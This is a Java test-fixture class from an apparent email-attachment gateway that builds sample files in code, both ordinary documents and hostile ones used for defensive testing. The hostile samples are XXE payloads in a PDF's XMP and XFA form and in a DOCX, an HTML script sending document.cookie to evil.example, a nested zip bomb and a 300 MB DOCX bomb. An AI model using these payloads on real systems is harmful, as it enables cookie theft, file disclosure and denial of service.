package be.persocontact.gateway.attachment;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Calendar;
import java.util.GregorianCalendar;
import java.util.Random;
import java.util.TimeZone;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

import javax.imageio.ImageIO;

import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentInformation;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDMetadata;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.graphics.image.LosslessFactory;
import org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDXFAResource;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/**
 * The test corpus, generated here for this project: every document is built from code, so each
 * test shows exactly what its file contains.
 */
public final class TestDocuments {

	public static final Calendar CREATED = new GregorianCalendar(2026, Calendar.NOVEMBER, 20, 9, 30);

	static {
		CREATED.setTimeZone(TimeZone.getTimeZone("UTC"));
	}

	private TestDocuments() {
	}

	/** A one-page PDF certificate with real text, an author and a creation date. */
	public static byte[] pdf(String... lines) {
		try (PDDocument document = new PDDocument()) {
			addTextPage(document, lines);
			PDDocumentInformation info = document.getDocumentInformation();
			info.setAuthor("Dr. Jan Janssens");
			info.setCreationDate(CREATED);
			return save(document);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/** A phone scan: one page that is only a picture, no text layer. */
	public static byte[] scannedPdf() {
		try (PDDocument document = new PDDocument()) {
			PDPage page = new PDPage();
			document.addPage(page);
			PDImageXObject image = LosslessFactory.createFromImage(document, picture(400, 500));
			try (PDPageContentStream content = new PDPageContentStream(document, page)) {
				content.drawImage(image, 50, 150, 400, 500);
			}
			return save(document);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/** A PDF that opens only with the password "geheim". */
	public static byte[] encryptedPdf() {
		try (PDDocument document = new PDDocument()) {
			addTextPage(document, "Vertrouwelijk attest");
			StandardProtectionPolicy policy = new StandardProtectionPolicy("eigenaar", "geheim", new AccessPermission());
			policy.setEncryptionKeyLength(128);
			document.protect(policy);
			return save(document);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/** The first part of a PDF, as a mail client that gave up half-way would send it. */
	public static byte[] truncatedPdf() {
		byte[] whole = pdf("Dit attest werd afgebroken tijdens het verzenden");
		return Arrays.copyOf(whole, 200);
	}

	/**
	 * A PDF whose XMP metadata and XFA form declare external entities pointing at {@code target}
	 * (the shape of CVE-2025-54988): a safe reader ignores them.
	 */
	public static byte[] xxePdf(String target) {
		try (PDDocument document = new PDDocument()) {
			addTextPage(document, "Formulier met XFA");
			String xmp = """
					<?xml version="1.0"?>
					<!DOCTYPE x:xmpmeta [<!ENTITY xxe SYSTEM "%s">]>
					<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
					<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">
					<dc:creator><rdf:Seq><rdf:li>&xxe;</rdf:li></rdf:Seq></dc:creator></rdf:Description>
					</rdf:RDF></x:xmpmeta>""".formatted(target);
			PDMetadata metadata = new PDMetadata(document);
			metadata.importXMPMetadata(xmp.getBytes(StandardCharsets.UTF_8));
			document.getDocumentCatalog().setMetadata(metadata);
			String xfa = """
					<?xml version="1.0"?>
					<!DOCTYPE xdp:xdp [<!ENTITY xxe SYSTEM "%s">]>
					<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
					<subform name="form1"><field name="naam"><value><text>&xxe;</text></value></field></subform>
					</template><xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data>
					<form1><naam>&xxe;</naam></form1></xfa:data></xfa:datasets></xdp:xdp>""".formatted(target);
			PDAcroForm form = new PDAcroForm(document);
			COSStream stream = document.getDocument().createCOSStream();
			try (var out = stream.createOutputStream()) {
				out.write(xfa.getBytes(StandardCharsets.UTF_8));
			}
			form.setXFA(new PDXFAResource(stream));
			document.getDocumentCatalog().setAcroForm(form);
			return save(document);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/** A Word document written by POI, with an author. */
	public static byte[] docx(String text) {
		try (XWPFDocument document = new XWPFDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			document.createParagraph().createRun().setText(text);
			document.getProperties().getCoreProperties().setCreator("Anna Peeters");
			document.write(out);
			return out.toByteArray();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/** A DOCX whose document.xml declares an external entity pointing at {@code target}. */
	public static byte[] xxeDocx(String target) {
		String documentXml = """
				<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
				<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "%s"><!ENTITY %% remote SYSTEM "%s"> %%remote;]>
				<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>
				<w:p><w:r><w:t>Begin &xxe; einde</w:t></w:r></w:p></w:body></w:document>""".formatted(target, target);
		return replaceZipEntry(docx("placeholder"), "word/document.xml", documentXml.getBytes(StandardCharsets.UTF_8));
	}

	/** An OpenDocument text, written by hand: the mimetype entry first and stored, as the format demands. */
	public static byte[] odt(String text) {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			byte[] mimetype = "application/vnd.oasis.opendocument.text".getBytes(StandardCharsets.US_ASCII);
			ZipEntry entry = new ZipEntry("mimetype");
			entry.setMethod(ZipEntry.STORED);
			entry.setSize(mimetype.length);
			CRC32 crc = new CRC32();
			crc.update(mimetype);
			entry.setCrc(crc.getValue());
			zip.putNextEntry(entry);
			zip.write(mimetype);
			zip.closeEntry();
			put(zip, "META-INF/manifest.xml", """
					<?xml version="1.0" encoding="UTF-8"?>
					<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">
					<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>
					<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>
					</manifest:manifest>""");
			put(zip, "content.xml", """
					<?xml version="1.0" encoding="UTF-8"?>
					<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
					 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">
					<office:body><office:text><text:p>%s</text:p></office:text></office:body></office:document-content>"""
				.formatted(text));
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return bytes.toByteArray();
	}

	/** A phone photo: a JPEG with an EXIF block naming the artist and the moment it was taken. */
	public static byte[] jpegWithExif() {
		byte[] jpeg = image("jpg");
		byte[] tiff = exifTiff("Anna Peeters", "2026:11:20 09:30:00");
		ByteBuffer app1 = ByteBuffer.allocate(4 + 6 + tiff.length).order(ByteOrder.BIG_ENDIAN);
		app1.put((byte) 0xFF).put((byte) 0xE1).putShort((short) (2 + 6 + tiff.length));
		app1.put("Exif\0\0".getBytes(StandardCharsets.US_ASCII)).put(tiff);
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.write(jpeg, 0, 2); // SOI
		out.writeBytes(app1.array());
		out.write(jpeg, 2, jpeg.length - 2);
		return out.toByteArray();
	}

	public static byte[] png() {
		return image("png");
	}

	/** A Windows executable's first bytes: the MZ stub and a PE header. */
	public static byte[] exe() {
		byte[] exe = new byte[1024];
		exe[0] = 'M';
		exe[1] = 'Z';
		exe[0x3C] = (byte) 0x80;
		exe[0x80] = 'P';
		exe[0x81] = 'E';
		exe[0x84] = 0x4C;
		exe[0x85] = 0x01;
		return exe;
	}

	public static byte[] html() {
		return """
				<!DOCTYPE html>
				<html><head><title>Attest</title></head>
				<body><script>document.location='https://evil.example/'+document.cookie</script><p>Attest</p></body></html>
				""".getBytes(StandardCharsets.UTF_8);
	}

	/**
	 * A 42.zip-style bomb: {@code levels} levels of zips, each holding 16 copies of the level below,
	 * the bottom one 16 files of 10 MB of zeros. A few kilobytes that expand to petabytes-ish.
	 */
	public static byte[] zipBomb(int levels) {
		byte[] zeros = new byte[10 * 1024 * 1024];
		byte[] level = zipOf("0.bin", zeros, 16);
		for (int i = 1; i < levels; i++) {
			level = zipOf(i + ".zip", level, 16);
		}
		return level;
	}

	/** A DOCX whose document.xml is 300 MB of spaces: an Office-shaped bomb. */
	public static byte[] docxBomb() {
		byte[] huge = new byte[300 * 1024 * 1024];
		Arrays.fill(huge, (byte) ' ');
		return replaceZipEntry(docx("placeholder"), "word/document.xml", huge);
	}

	/**
	 * A TNEF ({@code winmail.dat}) as Outlook sends it, carrying the given files; written attribute by
	 * attribute after MS-OXTNEF.
	 */
	public static byte[] tnef(Object... nameThenBytes) {
		ByteBuffer out = ByteBuffer.allocate(1024 * 1024 + total(nameThenBytes)).order(ByteOrder.LITTLE_ENDIAN);
		out.putInt(0x223E9F78).putShort((short) 0x0001);
		attribute(out, 1, 0x00089006, new byte[] { 0, 0, 1, 0 }); // attTnefVersion
		attribute(out, 1, 0x00069007, ByteBuffer.allocate(8).order(ByteOrder.LITTLE_ENDIAN).putInt(1252).putInt(0)
			.array()); // attOemCodepage
		attribute(out, 1, 0x00078008, "IPM.Microsoft Mail.Note\0".getBytes(StandardCharsets.US_ASCII));
		for (int i = 0; i < nameThenBytes.length; i += 2) {
			byte[] rend = ByteBuffer.allocate(14).order(ByteOrder.LITTLE_ENDIAN).putShort((short) 1).putInt(-1)
				.putShort((short) 0).putShort((short) 0).putInt(0).array();
			attribute(out, 2, 0x00069002, rend); // attAttachRenddata: a new attachment begins
			attribute(out, 2, 0x00018010, (nameThenBytes[i] + "\0").getBytes(StandardCharsets.ISO_8859_1));
			attribute(out, 2, 0x0006800F, (byte[]) nameThenBytes[i + 1]); // attAttachData
		}
		return Arrays.copyOf(out.array(), out.position());
	}

	public static byte[] randomBytes(int size, long seed) {
		byte[] bytes = new byte[size];
		new Random(seed).nextBytes(bytes);
		return bytes;
	}

	private static int total(Object[] nameThenBytes) {
		int total = 0;
		for (int i = 1; i < nameThenBytes.length; i += 2) {
			total += ((byte[]) nameThenBytes[i]).length;
		}
		return total;
	}

	private static void attribute(ByteBuffer out, int level, int id, byte[] data) {
		int checksum = 0;
		for (byte b : data) {
			checksum += b & 0xff;
		}
		out.put((byte) level).putInt(id).putInt(data.length).put(data).putShort((short) (checksum & 0xffff));
	}

	private static byte[] exifTiff(String artist, String dateTime) {
		byte[] artistBytes = (artist + "\0").getBytes(StandardCharsets.US_ASCII);
		byte[] dateBytes = (dateTime + "\0").getBytes(StandardCharsets.US_ASCII);
		int ifd0 = 8;
		int ifd0Size = 2 + 3 * 12 + 4;
		int artistAt = ifd0 + ifd0Size;
		int dateAt = artistAt + artistBytes.length;
		int exifIfd = (dateAt + dateBytes.length + 1) & ~1;
		int exifSize = 2 + 12 + 4;
		int originalAt = exifIfd + exifSize;
		ByteBuffer tiff = ByteBuffer.allocate(originalAt + dateBytes.length).order(ByteOrder.BIG_ENDIAN);
		tiff.put((byte) 'M').put((byte) 'M').putShort((short) 42).putInt(ifd0);
		tiff.putShort((short) 3);
		tiff.putShort((short) 0x0132).putShort((short) 2).putInt(dateBytes.length).putInt(dateAt); // DateTime
		tiff.putShort((short) 0x013B).putShort((short) 2).putInt(artistBytes.length).putInt(artistAt); // Artist
		tiff.putShort((short) 0x8769).putShort((short) 4).putInt(1).putInt(exifIfd); // Exif IFD
		tiff.putInt(0);
		tiff.position(artistAt);
		tiff.put(artistBytes).put(dateBytes);
		tiff.position(exifIfd);
		tiff.putShort((short) 1);
		tiff.putShort((short) 0x9003).putShort((short) 2).putInt(dateBytes.length).putInt(originalAt);
		tiff.putInt(0);
		tiff.put(dateBytes);
		return tiff.array();
	}

	private static BufferedImage picture(int width, int height) {
		BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
		Graphics2D graphics = image.createGraphics();
		graphics.setColor(Color.WHITE);
		graphics.fillRect(0, 0, width, height);
		graphics.setColor(Color.DARK_GRAY);
		for (int y = 40; y < height - 40; y += 24) {
			graphics.fillRect(30, y, width - 60 - (y * 7 % 90), 10);
		}
		graphics.dispose();
		return image;
	}

	private static byte[] image(String format) {
		try (ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			ImageIO.write(picture(120, 90), format, out);
			return out.toByteArray();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	private static void addTextPage(PDDocument document, String... lines) throws IOException {
		PDPage page = new PDPage();
		document.addPage(page);
		try (PDPageContentStream content = new PDPageContentStream(document, page)) {
			content.beginText();
			content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
			content.newLineAtOffset(50, 700);
			for (String line : lines) {
				content.showText(line);
				content.newLineAtOffset(0, -16);
			}
			content.endText();
		}
	}

	private static byte[] save(PDDocument document) throws IOException {
		try (ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			document.save(out);
			return out.toByteArray();
		}
	}

	private static void put(ZipOutputStream zip, String name, String content) throws IOException {
		zip.putNextEntry(new ZipEntry(name));
		zip.write(content.getBytes(StandardCharsets.UTF_8));
		zip.closeEntry();
	}

	private static byte[] zipOf(String name, byte[] content, int copies) {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			zip.setLevel(9);
			for (int i = 0; i < copies; i++) {
				zip.putNextEntry(new ZipEntry(i + "-" + name));
				zip.write(content);
				zip.closeEntry();
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return bytes.toByteArray();
	}

	private static byte[] replaceZipEntry(byte[] zipBytes, String name, byte[] replacement) {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zipBytes));
				ZipOutputStream out = new ZipOutputStream(bytes)) {
			for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
				out.putNextEntry(new ZipEntry(entry.getName()));
				out.write(entry.getName().equals(name) ? replacement : in.readAllBytes());
				out.closeEntry();
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return bytes.toByteArray();
	}

}
